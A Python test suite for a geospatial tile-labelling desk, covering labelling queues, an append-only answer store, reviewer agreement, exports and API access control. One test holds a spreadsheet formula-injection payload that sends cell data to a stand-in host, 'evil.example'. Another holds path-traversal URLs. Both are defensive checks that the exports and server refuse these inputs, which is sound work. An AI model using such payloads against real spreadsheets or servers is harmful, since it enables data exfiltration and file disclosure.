"""Parts of the labelling desk without a browser: the queue's orders, the store of answers, tiles, agreement,
exports."""

import csv
import io
import shutil
import sqlite3
from pathlib import Path

import geopandas as gpd
import numpy as np
import pyogrio
import pyproj
import pytest
import rasterio
import shapely
from click.testing import CliRunner, Result
from conftest import texture, write_coordinates, write_textures
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra.numpy import arrays
from PIL import Image
from sklearn.metrics import cohen_kappa_score

from geoclass.areas.answers import read_votes
from geoclass.areas.sample import read_sample
from geoclass.cli import main
from geoclass.datasets.corrections import apply_corrections
from geoclass.datasets.making import build_dataset
from geoclass.datasets.store import read_dataset
from geoclass.desk.agreement import agreements, joined
from geoclass.desk.answers import MIXED_LABEL, Answers, standing, told
from geoclass.desk.app import build_app
from geoclass.desk.desk import Desk
from geoclass.desk.heads import fit, space_of
from geoclass.desk.learner import Learner
from geoclass.desk.opening import Wanted, opened
from geoclass.desk.queue import UNKNOWN, disagreement_first, least_certain_first, margins, spread_first
from geoclass.desk.tiles import open_tiles
from geoclass.errors import DatasetError, OutputError
from geoclass.evaluation.assessment import predict_tiles
from geoclass.grid import TileGrid, TileRange, cells
from geoclass.labels import Labels
from geoclass.outputs.vector import write_gpkg as write_map
from geoclass.schemes import load_scheme
from geoclass.service.settings import Settings
from geoclass.train import train
from geoclass.views import COPIED, TURNS, VIEWS

GRID = TileGrid(pyproj.CRS("EPSG:26919"), 64, 1.0)
TOKEN = "a-token-for-tests-only"

tables = st.integers(2, 6).flatmap(
    lambda k: st.integers(1, 40).flatmap(lambda n: arrays(np.float64, (n, k), elements=st.floats(0.001, 1)))
)


def run(*arguments: object) -> Result:
    return CliRunner().invoke(main, [str(one) for one in arguments])


# ---- orders


@given(tables)
def test_least_certain_first_is_a_permutation_by_growing_margin(table: np.ndarray) -> None:
    shares = table / table.sum(axis=1, keepdims=True)
    order = least_certain_first(shares)
    assert sorted(order.tolist()) == list(range(len(shares)))
    two = np.sort(shares, axis=1)[:, -2:]
    assert np.allclose(margins(shares), two[:, 1] - two[:, 0])
    assert (np.diff(margins(shares)[order]) >= 0).all()


@given(tables, st.randoms(use_true_random=False))
def test_contradicted_labels_come_first_and_the_most_confident_before_all(table: np.ndarray, random: object) -> None:
    shares = table / table.sum(axis=1, keepdims=True)
    labels = np.array([random.randint(UNKNOWN, shares.shape[1] - 1) for _ in shares])  # type: ignore[attr-defined]  # hypothesis' Random
    order = disagreement_first(shares, labels)
    assert sorted(order.tolist()) == list(range(len(shares)))
    wrong = (labels != UNKNOWN) & (shares.argmax(axis=1) != labels)
    count = int(wrong.sum())
    assert wrong[order[:count]].all() and not wrong[order[count:]].any()
    assert (np.diff(shares.max(axis=1)[order[:count]]) <= 0).all()
    assert (np.diff(margins(shares)[order[count:]]) >= 0).all()


@given(st.integers(1, 60), st.integers(0, 20), st.integers(0, 5))
@settings(max_examples=15, deadline=None)
def test_a_spread_start_is_a_permutation_and_the_same_every_time(tiles: int, count: int, seed: int) -> None:
    features = np.random.default_rng(seed).normal(size=(tiles, 4)).astype(np.float32)
    order = spread_first(features, count, seed)
    assert sorted(order.tolist()) == list(range(tiles))
    assert (order == spread_first(features, count, seed)).all()


def test_a_spread_start_takes_one_tile_of_each_heap() -> None:
    heaps = np.repeat(np.eye(5, 8, dtype=np.float32) * 100, 20, axis=0)
    points = heaps + np.random.default_rng(0).normal(size=heaps.shape).astype(np.float32)
    assert sorted((spread_first(points, 5)[:5] // 20).tolist()) == [0, 1, 2, 3, 4]


# ---- the store


def test_ten_labels_of_each_class_are_enough_for_a_head() -> None:
    """Turns of a tile differ much along twenty directions. All tiles together tell them, a few labelled ones do not: a
    head that takes them from these once more is right on 90 % of the others, without them or from copies alone on 20 %.
    """
    rng = np.random.default_rng(0)
    classes = np.arange(700) % 7
    own = rng.normal(0, 1, (7, 300))[classes] + rng.normal(0, 1.5, (700, 300))
    turns = own[:, None] + rng.normal(0, 20, (700, TURNS, 20)) @ rng.normal(0, 1, (20, 300))
    views = np.concatenate([turns, turns[:, COPIED]], axis=1) + rng.normal(0, 0.5, (700, VIEWS, 300))
    points = space_of(views.astype(np.float32))
    assert points.shape == (700, VIEWS, 300) and points.var(axis=(0, 1)).mean() == pytest.approx(1, abs=1e-3)
    fitted = fit(points, np.arange(70), classes[:70], 7)
    assert (fitted.probabilities(points).argmax(axis=1) == classes)[70:].mean() > 0.97
    assert fitted.accuracy > 0.9


def test_answers_are_kept_across_openings_and_never_changed(tmp_path: Path) -> None:
    store = Answers(tmp_path / "a.sqlite")
    store.add("act-1", "Ada", ["t1", "t2"], "class", "Forest")
    store.add("act-2", "Ada", ["t1"], "mixed", note="a road through it")
    store.add("act-3", "Ada", ["t2"], "note", note="check")
    assert [row.tile for row in store.undo("act-4", "Ada")] == ["t2"]
    assert [row.tile for row in store.undo("act-5", "Ada")] == ["t1"]
    store.close()
    again = Answers(tmp_path / "a.sqlite")
    found = standing(again.rows())["Ada"]
    assert {tile: (one.label, one.note) for tile, one in found.items()} == {"t1": ("Forest", ""), "t2": ("Forest", "")}
    assert len(again.rows()) == 6  # two tiles, mixed, a note, two undoings
    with pytest.raises(sqlite3.DatabaseError, match="answers are kept"):
        again._db.execute("update answers set class = 'Water'")
    with pytest.raises(sqlite3.DatabaseError, match="answers are kept"):
        again._db.execute("delete from answers")
    assert again._db.execute("pragma synchronous").fetchone() == (2,)  # FULL
    again.close()


def test_an_undoing_sent_again_answers_what_it_did(tmp_path: Path) -> None:
    store = Answers(tmp_path / "a.sqlite")
    store.add("act-1", "Ada", ["t1"], "class", "Forest")
    store.add("act-2", "Ada", ["t2", "t3"], "class", "Water")
    for _ in range(2):
        assert [row.tile for row in store.undo("act-3", "Ada")] == ["t2", "t3"]
    assert store.undo("act-3", "Bea") == store.undo("act-1", "Ada") == ()
    assert told(standing(store.rows())) == {"Ada": {"t1": "Forest"}}
    assert len(store.rows()) == 4
    store.close()


def test_a_file_that_is_no_store_is_told(tmp_path: Path) -> None:
    (tmp_path / "a.sqlite").write_bytes(b"something else entirely, and long enough to be looked at" * 30)
    with pytest.raises(DatasetError, match="holds no answers"):
        Answers(tmp_path / "a.sqlite")
    with pytest.raises(OutputError, match="--store"):
        Answers(tmp_path / "nowhere" / "a.sqlite")


def test_a_full_disk_is_told_and_the_answer_is_not_held_for_kept(tmp_path: Path) -> None:
    folder = write_textures(tmp_path / "tiles", 4)
    with opened(Wanted(folder, size_px=64)) as desk:
        client = client_of(desk)
        tile = client.get("/v1/desk/queue?who=Ada").json()["tiles"][0]["id"]
        pages = desk.answers._db.execute("pragma page_count").fetchone()[0]
        desk.answers._db.execute(f"pragma max_page_count={pages}")
        body = {"act": "a-note-that-is-long", "who": "Ada", "tiles": [tile], "kind": "note", "note": "x" * 500}
        for number in range(40):
            answer = client.post("/v1/desk/answers", json={**body, "act": f"act-number-{number:08}"})
            if answer.status_code != 200:
                break
        assert answer.status_code == 507 and "the disk is full" in answer.json()["error"]
        assert len(desk.answers.rows()) == number
        desk.answers._db.execute("pragma max_page_count=100000")
        assert client.post("/v1/desk/answers", json=body).status_code == 200


def client_of(desk: Desk) -> TestClient:
    """A client of the desk's application, gate and all, from this machine."""
    app = build_app(desk, Settings((), token=TOKEN))
    return TestClient(
        app, base_url="http://127.0.0.1", headers={"authorization": f"Bearer {TOKEN}"}, client=("127.0.0.1", 50000)
    )


def test_what_people_write_is_no_formula_in_a_table(tmp_path: Path) -> None:
    link = '=HYPERLINK("http://evil.example?"&A1,"see")'
    with opened(Wanted(write_textures(tmp_path / "tiles", 4), size_px=64)) as desk:
        client = client_of(desk)
        tile = client.get("/v1/desk/queue?who=x").json()["tiles"][0]["id"]
        body = {"tiles": [tile], "kind": "mixed"}
        notes = {link: link, "+1": "@SUM(A1)", "-2": "\t=1", "Ada": "two\nlines - and =", "O'Hara": "'tis"}
        for number, (who, note) in enumerate(notes.items()):
            given = {**body, "act": f"act-number-{number:08}", "who": who, "note": note}
            assert client.post("/v1/desk/answers", json=given).status_code == 200, who
        rows = list(csv.DictReader(io.StringIO(client.get("/v1/desk/answers.csv").text, newline="")))
        found = {row["reviewer"]: row["note"] for row in rows}
        marked = {f"'{who}": f"'{note}" for who, note in list(notes.items())[:3]}
        assert found == {**marked, "Ada": "two\nlines - and =", "O'Hara": "'tis"}
        for wrong in ({"who": "A\nB"}, {"who": "A\x00"}, {"who": "A\u2028B"}, {"note": "a\x1bb"}, {"note": "a\rb"}):
            answer = client.post("/v1/desk/answers", json={**body, "act": "a" * 16, "who": "Ada", **wrong})
            assert answer.status_code == 422 and "control characters are not taken" in answer.json()["error"], wrong
        assert client.get("/v1/desk/queue", params={"who": "A\x07B"}).status_code == 422


# ---- people


def test_joined_labels_and_kappa_are_those_of_the_book() -> None:
    """Cohen's kappa by hand: 20 tiles, 15 alike, marginals 12/8 and 13/7: (0.75 − 0.53) / (1 − 0.53)."""
    first = ["a"] * 10 + ["b"] * 5 + ["a"] * 2 + ["b"] * 3
    second = ["a"] * 10 + ["b"] * 5 + ["b"] * 2 + ["a"] * 3
    everyone = {"Ada": dict(enumerate(first)), "Bea": dict(enumerate(second)), "Cy": {"elsewhere": "a"}}
    (pair,) = agreements({who: {str(tile): label for tile, label in own.items()} for who, own in everyone.items()})
    assert (pair.tiles, pair.agreed) == (20, 0.75)
    assert pair.kappa == pytest.approx((0.75 - 0.53) / (1 - 0.53))
    assert pair.kappa == pytest.approx(cohen_kappa_score(first, second))
    found = joined({
        "Ada": {"1": "a", "2": "a", "3": MIXED_LABEL, "4": "a"}, "Bea": {"1": "a", "2": "b", "3": MIXED_LABEL},
        "Cy": {"4": "b", "1": "b"}, "Di": {"4": "b"},
    })  # fmt: skip
    assert (found.labels, found.mixed, found.apart) == ({"1": "a", "4": "b"}, {"3"}, {"2"})


def test_a_skip_takes_the_class_back_and_a_note_does_not(tmp_path: Path) -> None:
    store = Answers(tmp_path / "a.sqlite")
    store.add("1", "Ada", ["t"], "class", "Forest")
    store.add("2", "Ada", ["t"], "note", note="dark")
    assert told(standing(store.rows())) == {"Ada": {"t": "Forest"}}
    store.add("3", "Ada", ["t"], "skip")
    one = standing(store.rows())["Ada"]["t"]
    assert (one.label, one.skipped, one.note) == ("", True, "dark")
    store.close()


# ---- data


def chips(folder: Path, side: int = 5) -> Path:
    """Pictures named by tile id, on a square of ground, without labels."""
    folder.mkdir()
    random = np.random.default_rng(0)
    for k, name in enumerate(GRID.tile_ids(np.repeat(np.arange(side), side), np.tile(np.arange(side), side))):
        Image.fromarray(texture(("checks", "stripes", "noise")[k % 3], random)).save(folder / f"{name}.png")
    return folder


def test_what_opens_the_desk_and_what_a_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A dataset, class folders without --scheme, plain pictures with it; whatever has a place stays imagery."""
    from geoclass.cli.label import _opens_desk

    def opens(folder: Path, **options: object) -> bool:
        return _opens_desk({"inputs": (str(folder),), "scheme": None, "answers": None, "design": None, **options})

    folders, plain = write_textures(tmp_path / "folders", 3), chips(tmp_path / "plain")
    made = build_dataset(folders, out=tmp_path / "made", size_px=64).folder
    assert opens(folders) and opens(made) and opens(made, scheme="nlcd3") and opens(plain, scheme="nlcd3")
    assert opens(folders, scheme="nlcd3")
    assert not opens(plain) and not opens(folders, answers="a.csv") and not opens(tmp_path / "none")
    (plain / "a.pgw").write_text("1\n0\n0\n-1\n0\n0\n")
    assert opens(plain, scheme="nlcd3"), "named by tile ids, so they are tiles"
    shutil.copy(plain / f"{GRID.tile_id(0, 0)}.png", plain / "a.png")
    assert not opens(plain, scheme="nlcd3"), "a picture with a place, so it is imagery"
    told_so = run("label", plain)
    assert told_so.exit_code == 2 and "name the classes to choose from with --scheme" in told_so.stderr
    for wrong in (("label", plain, "--scheme", "nlcd3", "--who", "Ada"), ("label", folders, "--tiles", 5)):
        assert (run(*wrong).exit_code == 2 and "leave it out" in run(*wrong).stderr) or "is for a dataset" in run(
            *wrong
        ).stderr


def test_what_cannot_be_labelled_is_told_with_its_own_remedy(tmp_path: Path) -> None:
    empty, plain, none = tmp_path / "empty", chips(tmp_path / "plain", 2), tmp_path / "none"
    empty.mkdir()
    cases: list[tuple[tuple[object, ...], str]] = [
        ((), "name a dataset, a folder of pictures, or imagery"),
        ((none,), f"there is no {none}; check the path"),
        ((tmp_path / "*.tif",), "check the path"),
        ((empty,), f"{empty} is empty; give a folder with pictures or a dataset"),
        ((plain,), f"{plain} holds pictures without classes; name the classes with --scheme"),
    ]
    for inputs, words in cases:
        for more in ((), ("--no-browser",)):
            told_so = run("label", *inputs, *more)
            assert told_so.exit_code == 2 and words in " ".join(told_so.stderr.split()), told_so.stderr
    assert "with --scheme, or the saved answers" in run("label", "https://example.invalid/a.tif").stderr


def test_tiles_that_no_longer_exist_are_told_kept_and_left_out(tmp_path: Path) -> None:
    folder = write_textures(tmp_path / "tiles", 8)
    wanted = Wanted(folder, size_px=64, who="Ada")
    with opened(wanted) as desk:
        asked = [desk.tiles.ids[k] for k in desk.tiles.positions]
        for number, tile in enumerate(asked):
            kind = desk.tiles.keys[desk.place[tile]].split("/")[0]
            desk.answer(f"act-{number}", "Ada", [tile], "class", kind, None)
        gone = desk.tiles.pictures.paths[desk.place[asked[0]]]
    gone.unlink()
    out = run("label", folder, "--size", 64, "--export", tmp_path / "labels.csv")
    assert out.exit_code == 0 and "1 answered tiles no longer exist" in out.output
    assert (tmp_path / "labels.csv").read_text().count("\n") == len(asked)  # a header, and one fewer
    with opened(wanted) as desk:
        assert desk.gone() == [asked[0]] and len(desk.answers.rows()) == len(asked)
    again = run("label", folder, "--size", 64, "--export", tmp_path / "labels.csv")
    assert again.exit_code == 2 and "--overwrite" in again.stderr


def test_unlabelled_pictures_with_a_place_make_a_geopackage_and_a_dataset(tmp_path: Path) -> None:
    folder = chips(tmp_path / "chips")
    with opened(Wanted(folder, scheme="nlcd3", who="Ada")) as desk:
        assert not desk.tiles.judged.any() and len(desk.queue("Ada", "uncertain")) == 25
        ids = desk.tiles.ids
        desk.answer("act-1", "Ada", ids[:8], "class", desk.tiles.scheme.names[0], "beside <the> road")
        desk.answer("act-2", "Ada", ids[8:12], "class", desk.tiles.scheme.names[1], None)
        desk.answer("act-3", "Ada", ids[12:13], "mixed", "", None)
        middle = desk.tiles.tile_ids.index(GRID.tile_id(2, 2))
        body, edge = desk.pictures(middle)
        assert edge == 0.25 and body[:2] == b"\xff\xd8"
        with Image.open(io.BytesIO(body)) as picture:
            whole = np.asarray(picture.convert("L"), float)
        with Image.open(folder / f"{GRID.tile_id(2, 3)}.png") as north:
            strip = np.asarray(north.convert("L"), float)[-32:]
        assert np.abs(whole[:32, 32:96] - strip).mean() < 12  # the northern neighbour is above the tile
    for out in ("labels.gpkg", "labelled"):
        made = run("label", folder, "--scheme", "nlcd3", "--export", tmp_path / out)
        assert made.exit_code == 0, made.stderr
    table = pyogrio.read_dataframe(tmp_path / "labels.gpkg", layer="labels")
    assert len(table) == 12 and table.crs.to_epsg() == 26919
    row = table[table["tile_id"] == GRID.tile_id(*GRID.parse_id(table["tile_id"][0]))].iloc[0]
    assert (
        tuple(row.geometry.bounds) == GRID.bounds(*GRID.parse_id(row["tile_id"]))
        and row["notes"] == "beside <the> road"
    )
    assert "layer_styles" in {name for name, _ in pyogrio.list_layers(tmp_path / "labels.gpkg")}
    data = read_dataset(tmp_path / "labelled")
    assert len(data) == 12 and data.meta.scheme == load_scheme("nlcd3") and not data.table.geometry.isna().any()


def test_the_tiles_of_a_sample_are_asked_in_its_order_and_make_an_estimate(tmp_path: Path) -> None:
    scheme, (columns, rows) = load_scheme("nlcd3"), cells(TileRange(0, 0, 5, 5))
    shares = np.full((25, len(scheme)), 0.1, np.float32)
    shares[np.arange(25), np.arange(25) % len(scheme)] = 0.8
    info = {"name": "map", "date": "2020", "inputs": [], "sensor": "rgb8", "bundle": "none"}
    thumbnails = np.zeros((25, 2, 2, 3), np.uint8)
    write_map(
        Labels(GRID, scheme, columns, rows, shares, np.ones(25, np.float32), thumbnails, info), tmp_path / "map.gpkg"
    )
    drawn = tmp_path / "sample.gpkg"
    made = run("sample", tmp_path / "map.gpkg", "-o", drawn, "--total", 12, "--no-page")
    assert made.exit_code == 0, made.output
    sample, folder = read_sample(drawn), chips(tmp_path / "chips")
    (folder / f"{sample.tile_ids[3]}.png").unlink()
    with opened(Wanted(folder, design=drawn, who="Ada")) as desk:
        assert desk.order == "design" and desk.tiles.missing == (sample.tile_ids[3],) and desk.tiles.scheme == scheme
        order = desk.queue("Ada", "design")
        names = [desk.tiles.tile_ids[k] for k in order]
        assert names == [name for name in sample.tile_ids if name != sample.tile_ids[3]]
        for number, k in enumerate(order):
            kind = "mixed" if number == 0 else "class"
            desk.answer(f"act-{number}", "Ada", [desk.tiles.ids[k]], kind, scheme.names[number % 3], None)
    csv = tmp_path / "answers.csv"
    assert run("label", folder, "--design", drawn, "--export", csv).exit_code == 0
    votes = read_votes(sample, drawn, [csv])
    assert len(votes) == len(order) and sum(vote.unsure for vote in votes) == 1
    assert {vote.classes for vote in votes if not vote.unsure} == {(0,), (1,), (2,)}


def test_a_dataset_cut_from_a_scene_shows_the_ground_around_its_tiles(tmp_path: Path) -> None:
    scene = write_coordinates(tmp_path / "scene.tif", compress="deflate")
    with rasterio.open(scene) as source:
        left, bottom, right, top = source.bounds
    middle = (left + right) / 2
    squares = [shapely.box(left, bottom, middle, top), shapely.box(middle, bottom, right, top)]
    gpd.GeoDataFrame({"kind": ["West", "East"]}, geometry=squares, crs="EPSG:26919").to_file(tmp_path / "l.gpkg")
    made = build_dataset(
        scene, tmp_path / "l.gpkg", out=tmp_path / "made", class_field="kind", size_px=64, split="random",
        keep_look_alikes=True,
    )  # fmt: skip
    with opened(Wanted(made.folder)) as desk:
        at = max(desk.tiles.positions, key=lambda k: -abs(desk.tiles.columns[k] * 64 + 32 - middle))
        column, row = int(desk.tiles.columns[at]), int(desk.tiles.rows[at])
        bounds = ((column - 0.5) * 64, (row - 0.5) * 64, (column + 1.5) * 64, (row + 1.5) * 64)
        body, edge = desk.pictures(int(at))
        with rasterio.open(scene) as source, Image.open(io.BytesIO(body)) as picture:
            there = source.read(window=source.window(*bounds), boundless=True, fill_value=196).transpose(1, 2, 0)
            assert edge == 0.25 and picture.size == (128, 128)
            assert np.abs(np.asarray(picture, float) - there).mean() < 6
    scene.unlink()
    with opened(Wanted(made.folder)) as desk:  # the scene is gone: the neighbours stand in for it
        body, edge = desk.pictures(int(at))
        with Image.open(io.BytesIO(body)) as picture:
            assert edge == 0.25 and np.abs(np.asarray(picture, float)[32:96, 32:96] - there[32:96, 32:96]).mean() < 6


def test_labels_are_corrections_of_the_dataset(tmp_path: Path) -> None:
    made = build_dataset(write_textures(tmp_path / "tiles", 12), out=tmp_path / "made", size_px=64)
    with opened(Wanted(made.folder, who="Ada")) as desk:
        assert set(made.table["split"]) >= {"train", "test"}
        assert {made.table["split"][k] for k in desk.tiles.positions} == {"train", "validation"}
        tile = int(desk.tiles.positions[0])
        other = next(name for name in desk.tiles.scheme.names if name != made.table["label"][tile])
        desk.answer("act-1", "Ada", [desk.tiles.ids[tile]], "class", other, None)
        key = desk.tiles.keys[tile]
        refused = client_of(desk).get("/v1/desk/labels.gpkg")
        assert refused.status_code == 422 and "CSV" in refused.json()["error"] + refused.json()["remedy"]
    assert run("label", made.folder, "--export", tmp_path / "labels.csv").exit_code == 0
    mended = apply_corrections(made.folder, tmp_path / "labels.csv")
    assert mended.relabelled == 1
    assert mended.dataset.table.set_index("key").loc[key, "label"] == other


def test_data_without_a_tile_and_models_of_other_classes_are_refused(tmp_path: Path, tiny_bundle: Path) -> None:
    (tmp_path / "empty").mkdir()
    for data in (tmp_path / "empty", tmp_path / "none"):
        answer = run("label", data, "--export", tmp_path / "x.csv")
        assert answer.exit_code == 2 and answer.stderr.strip().count("\n") == 0
    folder = write_textures(tmp_path / "tiles", 4)
    answer = run("label", folder, "--size", 64, "--model", tiny_bundle, "--export", tmp_path / "x.csv")
    assert answer.exit_code == 2 and "the model knows" in answer.stderr and "'checks'" in answer.stderr


def test_the_head_learns_from_answers_or_from_all(tmp_path: Path) -> None:
    """Held-out labels judge and never teach; a second opinion comes first where it is asked for."""
    folder = write_textures(tmp_path / "tiles", 20)
    tiles = open_tiles(folder, size_px=64)
    learner = Learner(tiles)
    learner.start()
    learner.wait()
    assert learner.stage == "ready", learner.problem
    store = Answers(tmp_path / "a.sqlite")
    desk = Desk(tiles, store, learner)
    with pytest.raises(DatasetError, match="two classes"):
        desk.retrain()
    for number, k in enumerate(desk.queue("Ada", "uncertain")[:12]):
        desk.answer(f"act-{number}", "Ada", [tiles.ids[k]], "class", tiles.scheme.names[int(tiles.known[k])], None)
    made = desk.retrain()
    assert made.before is None and made.after.labels == 12 and made.after.judged == int(tiles.judged.sum())
    everything = Desk(tiles, store, learner, learns="all")
    more = everything.retrain()
    assert more.before == made.after and more.after.labels == int((~tiles.judged).sum())
    assert more.after.accuracy is not None and more.after.accuracy > 0.8
    ada = set(desk.queue("Ada", "uncertain"))
    bea = desk.queue("Bea", "uncertain", second=True)
    assert set(bea) - ada == set(bea[:12])
    first = desk.queue("Bea", "uncertain")
    assert set(first[-12:]) == set(bea[:12])
    desk.answer("act-skip", "Bea", [tiles.ids[first[0]]], "skip", "", None)
    assert desk.queue("Bea", "uncertain")[-1] == first[0]
    store.close()


def test_a_model_is_the_first_head_and_its_answers_are_those_of_predict(tmp_path: Path) -> None:
    folder = write_textures(tmp_path / "tiles", 16)
    bundle = train(folder, size_px=64, views=1).save(tmp_path / "m.pt")
    with opened(Wanted(folder, model=str(tmp_path / "m.pt"))) as desk:
        assert desk.tiles.pictures.size_px == 64
        desk.learner.start()
        desk.learner.wait()
        found = desk.learner.learned
        assert desk.learner.stage == "ready" and found is not None and found.own_accuracy is None
        assert np.abs(found.probabilities - predict_tiles(desk.tiles.pictures, bundle)).max() < 0.02
        told_now = client_of(desk).get("/v1/desk").json()
        assert told_now["head"]["name"] == "the model" and told_now["head"]["accuracy"] > 0.8
        assert margins(found.probabilities[desk.queue("Ada", "uncertain")]).argmin() == 0
        wrong = disagreement_first(found.probabilities[desk.tiles.positions], desk.tiles.known[desk.tiles.positions])
        assert desk.queue("Ada", "disagreement") == desk.tiles.positions[wrong].tolist()


def test_behind_a_proxy_reading_needs_the_token_too(tmp_path: Path) -> None:
    with opened(Wanted(write_textures(tmp_path / "tiles", 4), size_px=64)) as desk:
        app = build_app(desk, Settings((), token=TOKEN, hosts=("desk.example",)))
        client = TestClient(app, base_url="http://desk.example", client=("10.0.0.1", 50000))
        assert client.get("/").status_code == client.get("/static/main.js").status_code == 200
        assert client.get("/v1/desk").status_code == client.get("/v1/desk/labels.csv").status_code == 401
        assert client.get("/v1/desk", headers={"authorization": f"Bearer {TOKEN}"}).status_code == 200
        for path in ("/static/../../answers.py", "/static/%2e%2e/%2e%2e/answers.py", "/static/"):
            assert client.get(path).status_code in (401, 404)
